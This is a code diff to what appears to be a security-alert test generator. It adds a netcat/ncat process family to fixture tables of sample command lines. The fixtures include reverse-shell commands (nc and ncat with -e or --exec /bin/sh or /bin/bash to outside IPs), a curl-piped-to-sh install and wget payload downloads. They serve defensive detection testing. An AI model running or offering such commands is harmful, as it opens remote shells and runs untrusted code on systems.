@@ -50,7 +50,7 @@ struct ProcEntry {
 };
 
 // Process families picked by keywords in the rule name (see AlertGenerator::family_for).
-enum class Family { Shell, Reader, Network, Package, Writer, LogTamper, Miner, Kube, Generic, Count };
+enum class Family { Shell, Reader, Network, Netcat, Package, Writer, LogTamper, Miner, Kube, Generic, Count };
 
 inline constexpr std::array<ProcEntry, 4> kShells = {{
     {"bash", "/usr/bin/bash", {"bash -c ls > /dev/null", "bash -i", "bash -c curl -s http://10.0.4.12:8080/install.sh | sh"}},
@@ -69,6 +69,10 @@ inline constexpr std::array<ProcEntry, 4> kNetwork = {{
     {"nc", "/usr/bin/nc", {"nc -lvnp 4444", "nc 216.160.83.56 443 -e /bin/sh", "nc -z 10.0.3.4 22"}},
     {"node", "/usr/local/bin/node", {"node /srv/app/server.js", "node --max-old-space-size=2048 dist/main.js", "node worker.js"}},
     {"wget", "/usr/bin/wget", {"wget -q -O- http://67.43.156.0/a", "wget https://example.com/tool.tgz", "wget -qO /tmp/k http://175.16.199.1/k"}},
+}};
+inline constexpr std::array<ProcEntry, 2> kNetcat = {{
+    {"nc", "/usr/bin/nc", {"nc -lvnp 4444", "nc 216.160.83.56 443 -e /bin/sh", "nc -z 10.0.3.4 22"}},
+    {"ncat", "/usr/bin/ncat", {"ncat --exec /bin/bash 81.2.69.144 4444", "ncat -l 8080", "ncat -e /bin/sh 10.0.3.4 9001"}},
 }};
 inline constexpr std::array<ProcEntry, 4> kPackage = {{
     {"apt-get", "/usr/bin/apt-get", {"apt-get install -y netcat-openbsd", "apt-get update", "apt-get install -y curl"}},
